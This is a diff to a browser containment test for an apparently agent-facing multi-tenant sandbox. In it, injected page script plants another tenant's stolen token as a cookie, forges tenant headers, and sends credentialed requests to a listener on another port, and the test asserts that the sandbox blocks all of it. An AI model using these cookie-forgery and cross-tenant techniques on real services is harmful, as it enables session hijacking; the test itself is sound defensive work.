@@ -36,7 +36,6 @@ from adapter.render import ENTRY_CHARS
 from adapter.scope import MAX_URL_CHARS, BadURL, SiteScope
 from computerops.serving import serve_app, tenant_context
 from sites.kit.app import create_app
-from sites.kit.oplog import TENANT_COOKIE
 from sites.kit.tenancy import TenantRegistry
 
 browser_test = pytest.mark.browser
@@ -346,57 +345,48 @@ async def _record(listener: socket.socket, received: list[bytes]) -> None:
 
 
 @browser_test
-async def test_the_tenant_cookie_is_strict_httponly_for_the_site_path_and_never_reaches_another_port(
+async def test_page_script_can_neither_read_nor_take_over_the_tenant_binding_nor_send_it_to_another_port(
     browser: Browser,
 ) -> None:
+    """The episode's context holds no tenant cookie: its proxy binds each request by the tenant header. Page script
+    that sets tenant cookies (a broader path, another tenant's token, a made-up one) and sends tenant headers with
+    fetch() moves nothing to another tenant: the bindings are taken out and recorded, every request lands in the
+    episode's own tenant, and nothing reaches another port."""
     listener, received = _recorder()
-    other = f"http://127.0.0.1:{listener.getsockname()[1]}"
+    other_port = f"http://127.0.0.1:{listener.getsockname()[1]}"
     recording = asyncio.create_task(_record(listener, received))
     with tempfile.TemporaryDirectory(prefix="computerops-containment-") as root:
         registry = TenantRegistry(Path(root))
         try:
             async with serve_app(create_app(registry)) as origin:
-                tenant = registry.create("helpdesk", 1)
+                tenant, other = registry.create("helpdesk", 1), registry.create("helpdesk", 1)
                 context = await tenant_context(browser, origin, tenant.token, site_prefix="/helpdesk/")
                 try:
-                    [cookie] = await context.cookies()
-                    assert (cookie["name"], cookie["path"], cookie["httpOnly"], cookie["sameSite"]) == (
-                        TENANT_COOKIE, "/helpdesk", True, "Strict")
+                    assert await context.cookies() == []
                     page = await context.new_page()
                     await page.goto(f"{origin}/helpdesk/")
                     assert "Helpdesk" in await page.title()
-                    assert TENANT_COOKIE not in await page.evaluate("document.cookie")
-                    # Page script aims the cookie's path at another port and at the other sites of the origin.
-                    port = origin.rsplit(":", 1)[1]
-                    await page.evaluate("""([other, port]) => {
-                      for (const url of [other + "/helpdesk/", "http://localhost:" + port + "/helpdesk/",
-                                         "/ledger/", "/helpdesk/..%2Fledger/"]) {
+                    await page.evaluate("""([other, port, stolen]) => {
+                      document.cookie = "computerops_tenant=" + stolen + "; path=/";
+                      document.cookie = "computerops_tenant=made-up; path=/helpdesk/tickets";
+                      fetch("/helpdesk/tickets?via=fetch", {headers: {"X-ComputerOps-Tenant": stolen}});
+                      for (const url of [other + "/helpdesk/", "http://localhost:" + port + "/helpdesk/"]) {
                         fetch(url, {credentials: "include", mode: "no-cors"}).catch(() => 0);
-                        new Image().src = url;
                       }
-                      navigator.sendBeacon(other + "/helpdesk/beacon", "x");
-                      setTimeout(() => { location.href = other + "/helpdesk/"; }, 50);
-                    }""", [other, port])
+                    }""", [other_port, origin.rsplit(":", 1)[1], other.token])
+                    await page.goto(f"{origin}/helpdesk/tickets")  # the model's next action
+                    assert "T-2001" in await page.content()
                     guard = containment_of(context)
                     assert guard is not None
-                    assert await until(lambda: any(r.kind == "navigation" for r in guard.records))
-                    await asyncio.sleep(0.3)
+                    assert await until(lambda: any(r.path == "/helpdesk/tickets" and r.query == "via=fetch"
+                                                   for r in tenant.operations()))
+                    assert other.operations() == []  # nothing landed in the other tenant
+                    assert {r.kind for r in guard.records} >= {"tenant_binding", "fetch"}
+                    assert all(r.path.startswith("/helpdesk") for r in tenant.operations())
+                    await asyncio.sleep(0.2)
                     assert received == []
-                    assert {r.kind for r in guard.records} == {"fetch", "subresource", "beacon", "navigation"}
-                    assert tenant.operations()[-1].path == "/helpdesk/"  # nothing reached /ledger/ or past it
                 finally:
                     await context.close()
-                # The threat is real: cookies ignore ports, so a plain context with the same cookie sends it there.
-                plain = await browser.new_context()
-                try:
-                    await plain.add_cookies([{"name": cookie["name"], "value": cookie["value"], "domain": "127.0.0.1",
-                                              "path": "/helpdesk", "sameSite": "Strict", "httpOnly": True}])
-                    page = await plain.new_page()
-                    await page.goto(f"{other}/helpdesk/")
-                    assert await until(lambda: bool(received))
-                    assert f"{TENANT_COOKIE}={tenant.token}".encode() in received[0]
-                finally:
-                    await plain.close()
         finally:
             registry.close()
             recording.cancel()
